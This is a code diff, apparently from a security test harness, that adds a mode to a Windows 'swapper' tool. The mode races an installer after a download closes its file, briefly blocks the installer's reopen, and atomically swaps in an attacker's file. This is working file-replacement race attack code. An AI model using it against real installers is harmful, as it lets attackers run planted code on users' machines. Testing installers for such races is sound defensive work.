@@ -5,7 +5,7 @@
 // EVIL in TARGET's place (overwrite in place, replace by rename, delete and
 // copy).
 //
-//   swapper TARGET EVIL SIZE DURATION_MS [after-lock | running]
+//   swapper TARGET EVIL SIZE DURATION_MS [after-lock | running | replace-after-close]
 //
 // With after-lock it first waits, changing nothing, until opening TARGET
 // for writing fails with a sharing violation while a reader that shares
@@ -20,6 +20,15 @@
 // where the setup would read its payload back; it then tells the setup that
 // the race is over. Prints "running rename-error E replaced R" (E is 0 when
 // the rename went through, R 1 when EVIL took the setup's place).
+//
+// With replace-after-close it plays another account in the moment after
+// the download: from its start it tries, as fast as it can, to open TARGET
+// for deleting, which succeeds only once the download has closed it and
+// before the installer holds it again; with that handle it keeps the
+// installer's reopen out for a moment, then puts a copy of EVIL in TARGET's
+// place, a file of another identity. Prints "after-close replaced R size S
+// error E" (R 1 when EVIL took TARGET's place; S the size of the file it
+// took; E the error of the replacement, 0 when it went through).
 #include <windows.h>
 
 #include <cstdio>
@@ -109,6 +118,32 @@ bool RefusesWriters(const wchar_t* target)
 
 }  // namespace
 
+int ReplaceAfterClose(const wchar_t* target, const std::wstring& staged, DWORD duration)
+{
+    const DWORD start = GetTickCount();
+    HANDLE held = INVALID_HANDLE_VALUE;
+    while (held == INVALID_HANDLE_VALUE && GetTickCount() - start < duration)
+        held = CreateFileW(target, DELETE | FILE_READ_ATTRIBUTES, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
+                           nullptr, OPEN_EXISTING, 0, nullptr);
+    if (held == INVALID_HANDLE_VALUE) {
+        std::printf("after-close replaced 0 size 0 error %lu\n", GetLastError());
+        return 0;
+    }
+    LARGE_INTEGER size = {};
+    GetFileSizeEx(held, &size);
+    // The attacker's own timing, not a wait for a state: held for a moment,
+    // the handle turns the installer's reopen away once (a file that others
+    // hold is tried again a little later); let go, the file is replaced at
+    // once, atomically, before that next try. A file that is open cannot be
+    // replaced, so the handle goes first.
+    Sleep(50);
+    CloseHandle(held);
+    const bool replaced = MoveFileExW(staged.c_str(), target, MOVEFILE_REPLACE_EXISTING) != FALSE;
+    std::printf("after-close replaced %d size %lld error %lu\n", replaced ? 1 : 0, size.QuadPart,
+                replaced ? 0 : GetLastError());
+    return 0;
+}
+
 // Bounded: a setup that never starts ends the race with a report that says so.
 int AttackRunningSetup(const wchar_t* target, const wchar_t* evil)
 {
@@ -135,8 +170,8 @@ int AttackRunningSetup(const wchar_t* target, const wchar_t* evil)
 int main(int argc, char** argv)
 {
     const std::string mode = argc == 6 ? argv[5] : "";
-    if (argc != 5 && !(argc == 6 && (mode == "after-lock" || mode == "running"))) {
-        std::fprintf(stderr, "usage: swapper TARGET EVIL SIZE DURATION_MS [after-lock | running]\n");
+    if (argc != 5 && !(argc == 6 && (mode == "after-lock" || mode == "running" || mode == "replace-after-close"))) {
+        std::fprintf(stderr, "usage: swapper TARGET EVIL SIZE DURATION_MS [after-lock | running | replace-after-close]\n");
         return 2;
     }
     wchar_t folder[MAX_PATH] = {};
@@ -151,6 +186,10 @@ int main(int argc, char** argv)
     const std::wstring staged = targetPath + L".staged";
     if (mode == "running")
         return AttackRunningSetup(target, evil);
+    if (mode == "replace-after-close") {
+        CopyFileW(evil, staged.c_str(), FALSE);
+        return ReplaceAfterClose(target, staged, duration);
+    }
 
     const DWORD waitStart = GetTickCount();
     for (;;) {
